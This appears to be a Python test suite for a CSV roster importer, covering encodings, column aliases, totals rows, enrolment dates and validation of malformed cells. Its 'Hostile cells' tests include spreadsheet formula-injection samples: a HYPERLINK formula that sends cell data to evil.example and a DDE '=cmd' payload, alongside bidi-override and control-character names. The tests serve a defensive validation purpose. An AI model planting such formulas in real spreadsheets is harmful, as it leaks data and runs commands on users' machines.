"""A roster as a file: whatever programs write, and whatever somebody makes of it."""

from datetime import UTC, datetime
from typing import Any

import pytest

from core.errors import Invalid
from events.roster.file import LINES_AT_MOST, Record, read_table
from events.roster.headings import COLUMNS
from events.roster.lines import read_line

BERLIN = "Europe/Berlin"


def at(text: str) -> datetime:
    return datetime.fromisoformat(text)


def lines(content: bytes | str) -> list[tuple[int, str, str]]:
    """The number of each line, with the name and address on it."""
    if isinstance(content, str):
        content = content.encode()
    return [
        (record.line, record.cells["name"], record.cells.get("email", ""))
        for record in read_table(content).records
    ]


def refusal(content: bytes | str) -> tuple[str, str]:
    with pytest.raises(Invalid) as refused:
        lines(content)
    assert refused.value.field == "file"
    return refused.value.code, str(refused.value)


def fault(**cells: str) -> dict[str, str]:
    """What is wrong with a line, by column."""
    record = Record(2, {"name": "Ana"} | cells, has_more=False)
    return {one.field: one.detail for one in read_line(record, BERLIN)[1]}


def understood(zone: str = BERLIN, **cells: str) -> dict[str, Any]:
    entry, faults = read_line(Record(2, {"name": "Ana"} | cells, has_more=False), zone)
    assert not faults
    return entry._asdict()


ANA = [(2, "Ana", "ana@example.com"), (3, "José", "jose@example.com")]
TEXT = "name,email\nAna,ana@example.com\nJosé,jose@example.com\n"


# What programs write


@pytest.mark.parametrize("separator", ",;\t")
@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"])
def test_separators_and_ends_of_lines_are_found(separator: str, end: str) -> None:
    assert lines(TEXT.replace(",", separator).replace("\n", end)) == ANA


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
def test_encodings_are_found(encoding: str) -> None:
    assert lines(TEXT.encode(encoding)) == ANA


def test_utf_16_of_either_byte_order_is_read() -> None:
    assert lines(b"\xfe\xff" + TEXT.encode("utf-16-be")) == ANA


def test_columns_are_in_any_order_however_they_are_written() -> None:
    table = read_table(b"Time Zone;E-Mail;NAME;Group\nUTC;a@b.de;Ana;7")
    assert table.records[0].cells == {
        "name": "Ana",
        "email": "a@b.de",
        "time_zone": "UTC",
    }
    assert table.unknown_columns == ["Group"]


@pytest.mark.parametrize(
    ("heading", "column"),
    [
        ("E-MAIL ADDRESS", "email"),
        ("البريد الالكترونى", "email"),
        ("student number", "external_id"),
        ("Student-ID", "external_id"),
        ("ID Number:", "external_id"),
        ("Matriculation number", "external_id"),
        ("Numero etudiant", "external_id"),
        ("الرقم الجامعي", "external_id"),
        ("since", "enrolled_from"),
        ("Enrolled since", "enrolled_from"),
        ("حتى", "enrolled_until"),
    ],
)
def test_columns_have_other_names_too(heading: str, column: str) -> None:
    table = read_table(f"{heading};name\n7;Ana".encode())
    assert table.records[0].cells == {"name": "Ana", column: "7"}
    assert table.unknown_columns == []


@pytest.mark.parametrize(
    "heading",
    [
        *("Status", "Ticket status", "APPROVAL", "approved", "RSVP", "Response"),
        *("Attending?", "Going", "declined", "Cancelled", "Waitlist", "Payment"),
        *("Payment status", "حالة التسجيل", "الحضور", "Abgesagt", "Annulé", "Estado"),
    ],
)
def test_a_column_that_may_say_who_comes_is_not_ignored(heading: str) -> None:
    code, said = refusal(f"name,{heading},email\nAna,no,ana@example.com")
    assert code == "column_not_understood"
    assert f"“{heading}”" in said
    assert "registered, waitlisted, cancelled" in said


@pytest.mark.parametrize(
    "heading",
    ["Last Name", "surname", "Family name", "First name", "اسم العائلة", "Nachname"],
)
def test_half_a_name_is_not_taken_for_the_name(heading: str) -> None:
    for text in (f"name,{heading}\nAna,Lopes", f"{heading},email\nLopes,a@b.de"):
        code, said = refusal(text)
        assert code == "column_not_understood"
        assert f"“{heading}”" in said
        assert "one column “name”" in said


@pytest.mark.parametrize(
    "heading",
    [
        *("Parent's e-mail", "Guardian email", "Alternative E-Mail", "email 2"),
        *("Secondary mail", "بريد ولي الأمر", "E-Mail der Mutter"),
    ],
)
def test_an_address_of_somebody_else_is_not_taken_or_ignored(heading: str) -> None:
    code, said = refusal(f"name,email,{heading}\nAna,a@b.de,c@d.de")
    assert code == "column_not_understood"
    assert f"“{heading}”" in said


def test_what_changes_nothing_is_ignored_and_told() -> None:
    headings = [
        "Group",
        "Date of birth",
        "Parent",
        "Second language",
        "Statusbar",
        "ID",
    ]
    table = read_table(f"name,{','.join(headings)}\nAna,1,2,3,4,5,6".encode())
    assert table.unknown_columns == headings


def test_numbers_of_lines_are_those_of_the_file() -> None:
    text = 'name,email\n\n"Ana\nMaria",a@b.de\r\n,\nBen,\n'
    assert lines(text) == [(3, "Ana\nMaria", "a@b.de"), (6, "Ben", "")]


def test_rows_of_what_nobody_sees_are_nobody() -> None:
    assert lines("name,email\n\u200b,\u00ad\n\ufeff\nBen,\u2060") == [
        (4, "Ben", "\u2060")
    ]


@pytest.mark.parametrize(
    "total",
    [
        *("Total", "TOTAL: 23", "Total 1.234", "Grand total", "Sum", "Subtotal =4"),
        *("المجموع", "المجموع: ٢٣", "الإجمالي", "Summe", "Gesamt 7", "Somme"),
    ],
)
def test_totals_are_nobody(total: str) -> None:
    assert lines(f"name,email,Hours\nAna,a@b.de,2\n{total},,2") == [
        (2, "Ana", "a@b.de")
    ]
    assert refusal(f"name\n{total}")[0] == "no_lines"


@pytest.mark.parametrize(
    "line", ["Total,,4", "Total,4,", "Sum: 4,4,1.234", "Total,-,="]
)
def test_totals_have_numbers_in_any_column(line: str) -> None:
    text = f"name,email,external_id\nAna,a@b.de,7\n{line}"
    assert lines(text) == [(2, "Ana", "a@b.de")]


@pytest.mark.parametrize(
    "line",
    [
        *("Total,t@b.de,", "Sum,,S-17", "Sumaya,,", "Total Eclipse,,", "7 Total Ave,,"),
        *("Countess,,", "23,,", "Sum 7 Wong,,"),
    ],
)
def test_who_is_called_like_a_total_is_somebody(line: str) -> None:
    assert len(lines(f"name,email,external_id\n{line}")) == 1


def test_each_row_can_be_quoted_without_what_hides_in_it() -> None:
    text = f"Ana\u202e,7\x1b,a@b.de\n,,c@d.de\n{'x' * 1_000_000}\nB,,"
    table = read_table(f"name,x,email\n{text}".encode())
    assert [row.text for row in table.records] == [
        "Ana, 7, a@b.de",
        ", , c@d.de",
        "x" * 60 + "…",
        "B",
    ]


def test_a_separator_inside_of_quotation_marks_belongs_to_the_cell() -> None:
    assert lines('name,email\n"Lopes, ""Mia""",m@x.de') == [
        (2, 'Lopes, "Mia"', "m@x.de")
    ]


def test_missing_cells_are_empty() -> None:
    assert lines("email,name\nx@y.de,Ana\n,Ben")[1] == (3, "Ben", "")
    assert lines("name,email\nAna") == [(2, "Ana", "")]


# What is no roster


@pytest.mark.parametrize(
    ("content", "code", "said"),
    [
        (b"", "empty", "is empty"),
        (b"\xef\xbb\xbf \r\n", "empty", "is empty"),
        (b"name,email\n", "no_lines", "nobody below the first row"),
        (b"name,email\n,\n \n", "no_lines", ""),
        (b"Ana,ana@example.com\n", "no_name_column", "name, email, external_id, role"),
        (b"email\nx@y.de", "no_name_column", "“name” is missing"),
        (b"name,email,Name\nA,b@c.de,B", "column_twice", "two columns “name”"),
        (
            b"name,Student ID,external_id\nA,1,2",
            "column_twice",
            "“Student ID” and “external_id” both mean external_id",
        ),
        ("name\nAna\nJosé\n".encode("latin-1"), "encoding", "Row 3 is not UTF-8"),
        ("name\nAna".encode("utf-16-le"), "encoding", "CSV UTF-8"),
        ("name\nAna".encode("utf-32"), "encoding", ""),
        (b"\xff\xfen\0a\0m", "encoding", ""),
        (b"PK\x03\x04 a workbook", "workbook", "Save it as “CSV UTF-8”"),
        (b'name,email\nA,\n"B,b@c.de\nC,', "quotation_marks", "From row 3 on"),
        (b'name\nA\n"B" x\nC,', "quotation_marks", "From row 3 on"),
    ],
)
def test_what_is_no_roster_is_refused_with_a_reason(
    content: bytes, code: str, said: str
) -> None:
    assert refusal(content)[0] == code
    assert said in refusal(content)[1]


def test_too_many_lines_are_refused() -> None:
    assert refusal("name\n" + "A\n" * (LINES_AT_MOST + 1))[0] == "too_many_lines"
    assert len(lines("name\n" + "A\n" * LINES_AT_MOST)) == LINES_AT_MOST


# Hostile cells


def test_a_formula_is_a_name_like_any_other() -> None:
    name = '=HYPERLINK("http://evil.example/?"&A1)'
    assert understood(name=name)["name"] == name
    assert "not an email address" in fault(email="=cmd|' /C calc'!A0")["email"]


@pytest.mark.parametrize(
    ("name", "said"),
    [
        ("Ana\0", "U+0000"),
        ("A\x1b[31mna", "U+001B"),
        ("Ana\x7f", "U+007F"),
        ("Ana\u009b", "U+009B"),
        ("Ana \u202egpj.exe", "U+202E"),
        ("\u2066Ana\u2069", "changes the direction"),
        ("Jos\ufffd", "A letter was lost"),
        ("", "missing"),
        (" \u200d\u200b ", "missing"),
        ("x" * 201, "At most 200"),
        ("x" * 1_000_000, "At most 200"),
        ("\ufffd" * 1_000_000, "At most 200"),
    ],
)
def test_names_that_hide_something_are_refused(name: str, said: str) -> None:
    assert said in fault(name=name)["name"]


@pytest.mark.parametrize(
    "name",
    [
        "میرزا\u200cعلی",
        "ශ්\u200dරී",
        "\u200fسمر\u200e (Samar)",
        "O'Neill-Đặng",
        "👩\u200d🏫 Ana",
        "राम",
    ],
)
def test_names_of_all_scripts_stay_as_they_are(name: str) -> None:
    assert understood(name=name)["name"] == name


def test_spaces_and_what_nobody_sees_are_left_out() -> None:
    assert understood(name="\ufeffAna\u00a0\n Ma\u00adria\u200b ")["name"] == (
        "Ana Maria"
    )


def test_what_nobody_sees_changes_no_value() -> None:
    values = understood(
        email="\u200eana@exam\u200bple.com\u00a0",
        external_id="\u200f12 \u200d 34",
        role="ho\u00adst",
        enrolled_from="\u200e2026-03-02",
    )
    assert values["email"] == "ana@example.com"
    assert values["external_id"] == "12 34"
    assert values["role"] == "host"
    assert values["enrolled_from"] == at("2026-03-01T23:00Z")
    nothing = understood(email="\u200b", role="\u200b", enrolled_until="\u200b")
    assert nothing == understood()


@pytest.mark.parametrize(
    ("zone", "column", "written", "meant"),
    [
        (BERLIN, "enrolled_from", "2026-03-02", "2026-03-01T23:00Z"),
        (BERLIN, "enrolled_until", "2026-03-02", "2026-03-02T23:00Z"),
        # The clocks go forward on that day.
        (BERLIN, "enrolled_until", "2026-03-29", "2026-03-29T22:00Z"),
        # Here at midnight, so that the day begins at one o'clock.
        ("Asia/Beirut", "enrolled_from", "2026-03-29", "2026-03-28T22:00Z"),
        # And here back to midnight, which comes twice.
        ("America/Havana", "enrolled_from", "2026-11-01", "2026-11-01T04:00Z"),
        (BERLIN, "enrolled_until", "2100-12-31", "2100-12-31T23:00Z"),
        (BERLIN, "enrolled_from", "2026-03-02T10:00:00Z", "2026-03-02T10:00Z"),
        (BERLIN, "enrolled_until", "2026-03-02T10:00:00+03:00", "2026-03-02T07:00Z"),
    ],
)
def test_days_of_an_enrolment_are_those_of_the_event(
    zone: str, column: str, written: str, meant: str
) -> None:
    instant = understood(zone, **{column: written})[column]
    assert (instant, instant.tzinfo) == (at(meant), UTC)


def test_an_enrolment_may_last_a_day_but_not_end_before_it_begins() -> None:
    day = "2026-03-02"
    values = understood(enrolled_from=day, enrolled_until=day)
    assert values["enrolled_until"] == at("2026-03-02T23:00Z")
    for until in ("2026-03-01", "2026-03-01T23:00:00Z"):
        wrong = fault(enrolled_from=day, enrolled_until=until)
        assert list(wrong) == ["enrolled_until"]
        assert "later than the beginning" in wrong["enrolled_until"]
    entry, _faults = read_line(
        Record(
            2, {"enrolled_from": day, "enrolled_until": "2026-03-01"}, has_more=False
        ),
        BERLIN,
    )
    assert entry.enrolled_until is None
    assert list(fault(enrolled_from="soon", enrolled_until="2026-03-01")) == [
        "enrolled_from"
    ]


def test_values_are_understood_however_they_are_written() -> None:
    values = understood(
        role="HOST",
        registration="Walk-in",
        time_zone="america/new york",
        language="AR",
    )
    assert values["role"] == "host"
    assert values["registration"] == "walk_in"
    assert values["time_zone"] == "America/New_York"
    assert values["language"] == "ar"


@pytest.mark.parametrize(
    ("column", "value", "said"),
    [
        ("email", "ana(at)example.com", "“ana(at)example.com” is not an email address"),
        ("email", f"a@{'x' * 300}.de", "At most 254"),
        ("email", "a\0@example.com", "not an email address"),
        ("role", "teacher", "“teacher” is not one of: host, attendee."),
        ("registration", "yes", "is not one of: registered"),
        ("time_zone", "Riyad", "Asia/Riyadh"),
        ("language", "xx", "is not one of: en, ar"),
        ("registration", "declined", "“declined” is not one of: registered"),
        ("external_id", "7" * 65, "At most 64"),
        ("external_id", "7\x1b", "U+001B"),
        ("enrolled_from", "02.03.2026", "“02.03.2026” is not a date. Write 2026-03-02"),
        ("enrolled_from", "2026-02-30", "is not a date"),
        ("enrolled_until", "2026-03-02T10:00", "or a time with its time zone"),
        ("enrolled_until", "1999-12-31", "between the years 2000 and 2100"),
        ("enrolled_until", "9999-12-31", "between the years 2000 and 2100"),
        ("enrolled_from", "9999-12-31T23:59:59-12:00", "2000 and 2100"),
    ],
)
def test_each_column_says_what_would_be_right(
    column: str, value: str, said: str
) -> None:
    assert said in fault(**{column: value})[column]


def test_messages_stay_short_whatever_is_in_a_cell() -> None:
    long = "x" * 1_000_000
    for column in COLUMNS:
        assert len(fault(**{column: long})[column]) < 200


def test_a_cell_too_many_is_told() -> None:
    record = read_table(b"name,email\nLopes, Maria,m@example.com").records[0]
    assert "quotation marks" in read_line(record, BERLIN)[1][0].detail
    assert not read_table(b"name,email\nAna,a@b.de,,").records[0].has_more


def test_too_many_columns_are_refused() -> None:
    assert refusal("name" + ",x" * 1000 + "\nAna")[0] == "too_many_columns"
